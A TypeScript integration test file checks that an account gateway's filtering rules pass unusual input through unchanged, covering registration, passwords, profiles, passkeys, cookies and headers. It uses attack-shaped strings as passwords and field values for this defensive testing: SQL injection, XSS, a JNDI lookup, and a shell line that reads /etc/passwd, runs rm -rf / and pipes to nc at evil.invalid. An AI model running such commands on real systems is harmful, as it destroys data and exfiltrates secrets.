import assert from 'node:assert/strict';
import { pageHeaders } from '#write-side/accounts/pages/policy.ts';
import { PASSWORD } from '../support/people.ts';
import { until } from '../support/until.ts';
import { type Page, Visitor } from '../support/visitor.ts';
import type { Gateway, Scenario } from './gateway.ts';
import { bearer, command, tokensFor } from './people.ts';

// Browsers at the front: its rules let what people enter through, and what they are answered comes as the platform has said it.

/** What the rules refuse, as the front says it; the platform has refusals of its own with the same status. */
const STOPPED = /The gateway does not let this through/;

/** What looks like an attack, and is somebody's password. */
const ODD = [
  `' OR '1'='1' UNION SELECT password FROM users --`,
  '<script>alert(document.cookie)</script><img src=x onerror=alert(1)>',
  '$(cat /etc/passwd); rm -rf / | nc evil.invalid 4444',
  `пароль "с кавычками" \\{}|~ и ещё; ${'$'}{jndi:ldap://evil.invalid/a}`,
  `l'été à l'Estaque; DROP TABLE accounts; ../../../../etc/shadow`,
];

/** Registers on the pages, follows the mail, and signs in to the account. */
async function comesIn(
  { front, people }: Gateway,
  visitor: Visitor,
  email: string,
  password: string,
): Promise<Page> {
  const form = await visitor.visit(`${front}/account/register`);
  const sent = await visitor.submit(form, { email, 'new-password': password }, '/account/register');
  assert.equal(sent.url.pathname, '/account/register/sent', sent.html);
  const verified = await visitor.submit(
    await visitor.visit(await people.mailTo(email, '/account/verify')),
    { 'current-password': password },
    '/account/verify',
  );
  assert.equal(verified.url.pathname, '/account/verify/done', verified.html);
  const asked = await visitor.visit(`${front}/account`);
  const account = await visitor.submit(asked, { username: email, 'current-password': password }, '/sign-in/');
  assert.deepEqual([account.status, account.url.pathname], [200, '/account'], account.html);
  return account;
}

const written = [
  [
    'fr',
    {
      name: "Élodie d'Été-O’Hara",
      address: "12 bis, rue de l'Église — 3e étage; « chez Zoé »\n75001 Paris",
      phone: '+33 1 23 45 67 89',
    },
  ],
  [
    'ru',
    {
      name: 'Анна Ильинична Д’Арк',
      address: 'ул. Лесная, д. 5; кв. 7 (вход со двора)\nМосква',
      phone: '+7 495 000-00-00',
    },
  ],
] as const;

/** Where people live, in words that are commands of a shell or SQL as well. */
const ADDRESSES = [
  'Villa Rose\nNice\nFrance',
  'Mail Box 5; Sort Office',
  "Résidence l'Étoile; bât. B",
  "L'Œuvre; rue de l'Union, 5",
  'The Gallery\nMount Street 5\nLondon',
  'Bât. C; 2e étage\nMail des Fleurs 4\nTours',
  'Flat 2; select apartments\nBridge Street\nBath',
  'Str. Unirii; nr. 5; bl. A; sc. B; et. 3; ap. 12',
  'Main St 5; Lower (rear) house; dir. Jones',
] as const;

export const pageScenarios: readonly Scenario[] = [
  [
    'addresses are written as they are, on the pages and by a command, and who has signed somebody in may be at an address of numbers',
    async (gateway) => {
      const { front, people, web } = gateway;
      const visitor = new Visitor();
      const email = 'lives@gateway.example';
      await comesIn(gateway, visitor, email, PASSWORD);
      const { access_token: token } = await people.signIn(web, email);
      for (const address of ADDRESSES) {
        const form = await visitor.visit(`${front}/account/profile`);
        const lines = address.replaceAll('\n', '\r\n');
        const told = await visitor.submit(
          form,
          { name: "N'Diaye; Rose", address: lines, phone: '5; ext. 7' },
          '/account/profile',
        );
        assert.equal(told.url.href, `${front}/account?done=profile`, `${address}: ${told.html}`);
        const changed = await command(
          front,
          'accounts/change-profile',
          { name: address.replaceAll('\n', '; '), address, phone: '5; ext. 7' },
          bearer(token),
        );
        assert.equal(changed.status, 200, `${address}: ${changed.text}`);
      }
      const issuer = encodeURIComponent('http://127.0.0.1:4000/oidc');
      const back = await visitor.visit(`${front}/account/callback?code=c&state=s&iss=${issuer}`);
      assert.doesNotMatch(back.html, STOPPED);
      const { asked } = people.authorization(web);
      asked.searchParams.append('resource', 'http://127.0.0.1:4000');
      assert.doesNotMatch((await new Visitor().visit(asked)).html, STOPPED);
    },
  ],
  [
    'passwords of any characters are registered, entered and changed on the pages, in French and Russian',
    async (gateway) => {
      for (const [at, [language, profile]] of written.entries()) {
        const [password = '', next = ''] = [ODD[at], ODD[at + 2]];
        const email = `odd.${language}@gateway.example`;
        const visitor = new Visitor({ 'accept-language': language });
        const account = await comesIn(gateway, visitor, email, password);
        assert.match(account.html, new RegExp(`lang="${language}"`));
        const form = await visitor.visit(`${gateway.front}/account/profile`);
        const told = await visitor.submit(form, profile, '/account/profile');
        assert.equal(told.url.href, `${gateway.front}/account?done=profile`, told.html);
        const shown = await gateway.people.signIn(gateway.web, email, { password });
        const read = await until(async () => {
          const { body } = await gateway.people.graphql(
            '{ profile { name address phone } }',
            shown.access_token,
          );
          return (body.data as { profile?: object | null })?.profile ?? undefined;
        }, 'their profile');
        assert.deepEqual(read, profile, 'as it was written');
        const change = await visitor.visit(`${gateway.front}/account/password`);
        const wrong = { 'current-password': ODD[4] ?? '', 'new-password': next };
        const refused = await visitor.submit(change, wrong, '/account/password');
        assert.equal(refused.url.pathname, '/account/password');
        assert.doesNotMatch(refused.html, STOPPED);
        const changed = await visitor.submit(
          refused,
          { ...wrong, 'current-password': password },
          '/account/password',
        );
        // The sessions of before are over, this one among them: they may be asked to sign in by now.
        assert.notEqual(changed.url.pathname, '/account/password', changed.html);
        await gateway.people.signIn(gateway.web, email, { password: next });
      }
    },
  ],
  [
    'passwords of any characters pass as JSON and where they are wrong, codes and what has to be deleted too',
    async (gateway) => {
      const { people, web, front } = gateway;
      const { send: ask } = people;
      for (const [at, password] of ODD.entries()) {
        const email = `json.${at}@gateway.example`;
        await people.register(email, password);
        const { access_token: token } = await people.signIn(web, email, { password });
        const next = ODD[(at + 1) % ODD.length];
        const changed = await ask('/accounts/me/password', { old: password, password: next }, token);
        assert.equal(changed.status, 204, JSON.stringify(changed.body));
        const { asked } = people.authorization(web);
        const visitor = new Visitor();
        const page = await visitor.visit(asked);
        const wrong = await visitor.submit(
          page,
          { username: email, 'current-password': password },
          '/sign-in/',
        );
        assert.match(wrong.url.pathname, /^\/sign-in\//);
        assert.doesNotMatch(wrong.html, STOPPED, password);
      }
      const { access_token: token } = await tokensFor(gateway, 'ann');
      const none = await ask('/accounts/me/totp', undefined, token, 'DELETE');
      assert.equal(none.status, 204, JSON.stringify(none.body));
      const credential = {
        id: `-- ' OR 1=1`,
        rawId: '<script>',
        response: { attestationObject: '; cat /etc/passwd' },
        type: 'public-key',
      };
      const added = await ask('/accounts/me/passkeys', { credential }, token);
      assert.notEqual(added.body.code, 'refused', JSON.stringify(added.body));
      assert.equal(
        (await ask('/accounts/email-verifications', { token: `' OR 1=1 --`, password: ODD[0] })).body.code,
        'link_void',
      );
      const hostile = await command(
        front,
        'accounts/create-profile',
        { name: '<script>alert(1)</script>', address: 'x' },
        bearer(token),
      );
      assert.equal(hostile.status, 403, 'what is no secret is judged');
    },
  ],
  [
    'whatever browsers are answered comes unchanged: 303 and where to, cookies, and each header',
    async (gateway) => {
      const { front, platform, people, web } = gateway;
      const { asked } = people.authorization(web);
      const referer = `${front}${asked.pathname}${asked.search}`;
      for (const [method, path] of [
        ['GET', `${asked.pathname}${asked.search}`],
        ['GET', '/account'],
        ['GET', '/account/register'],
        ['GET', '/account/nothing'],
        ['GET', '/sign-in/nobody'],
        ['GET', '/oidc/.well-known/openid-configuration'],
        ['GET', '/oidc/auth?client_id=nobody'],
        ['POST', '/account/register'],
        ['POST', '/oidc/token'],
      ] as const) {
        const [there, here] = await Promise.all(
          [front, platform].map((origin) => asBrowser(origin, method, path, referer)),
        );
        assert.deepEqual(there, here, `${method} ${path}`);
      }
    },
  ],
  [
    'signing in goes by 303 and cookies of this origin alone, and pages of an account have their policy',
    async (gateway) => {
      const { front } = gateway;
      const visitor = new Visitor();
      await comesIn(gateway, visitor, 'pia@gateway.example', PASSWORD);
      const cookies = await visitor.jar.getCookies(front);
      for (const { key, secure, httpOnly, sameSite, path, domain, hostOnly } of cookies) {
        assert.deepEqual(
          [secure, httpOnly, sameSite, domain, hostOnly],
          [true, true, 'lax', 'localhost', true],
          key,
        );
        assert.ok(!key.startsWith('__Host-') || path === '/', key);
      }
      assert.ok(
        cookies.some(({ key }) => key === '__Host-annals_session'),
        cookies.map(({ key }) => key).join(),
      );
      for (const path of [
        '/account',
        '/account/profile',
        '/account/password',
        '/account/sessions',
        '/account/security',
      ]) {
        const { status, headers, html } = await visitor.visit(front + path);
        assert.equal(status, 200, html);
        for (const [name, value] of Object.entries(pageHeaders()))
          assert.equal(headers.get(name), value, `${path}: ${name}`);
      }
      const page = await visitor.visit(`${front}/account/sessions`);
      const out =
        page.forms.find(({ action }) => action.pathname.endsWith('/end-all')) ?? assert.fail(page.html);
      const body = new URLSearchParams(out.fields);
      const foreign = await visitor.request(out.action, {
        method: 'POST',
        body,
        headers: { 'sec-fetch-site': 'cross-site' },
      });
      assert.equal(foreign.status, 403, 'a form of another origin');
      assert.match(await foreign.text(), /<!doctype html>/i, 'by the platform');
      const left = await visitor.request(out.action, { method: 'POST', body });
      assert.equal(left.status, 303);
      const at = await visitor.visit(`${front}/account`);
      assert.match(at.url.pathname, /^\/sign-in\//);
    },
  ],
];

/** Of each connection or each answer, and what only the front says. */
const OF_ONE = new Set([
  'date',
  'via',
  'alt-svc',
  'connection',
  'keep-alive',
  'strict-transport-security',
  'x-request-id',
  'content-length',
  'transfer-encoding',
  'etag',
  'server',
]);
/** Without what is drawn anew each time, and counts down. */
const masked = (text: string): string =>
  text.replaceAll(/[\w-]{24,}/g, '…').replaceAll(/;r=\d+;t=\d+/g, ';…');
const maskedCookie = (cookie: string): string =>
  masked(cookie.replace(/=[^;]*/, '=…').replace(/expires=[^;]+/i, 'expires=…'));

async function asBrowser(origin: string, method: string, path: string, referer: string) {
  const response = await fetch(origin + path, {
    ...{ method, redirect: 'manual' },
    headers: { accept: 'text/html', 'accept-language': 'fr', 'x-forwarded-proto': 'https', referer },
    ...(method === 'POST' && { body: new URLSearchParams({ a: 'b' }) }),
  });
  const text = await response.text();
  return {
    status: response.status,
    headers: [...response.headers]
      .filter(([name]) => !OF_ONE.has(name))
      .map(([name, value]) => `${name}: ${(name === 'set-cookie' ? maskedCookie : masked)(value)}`),
    text: masked(text),
  };
}
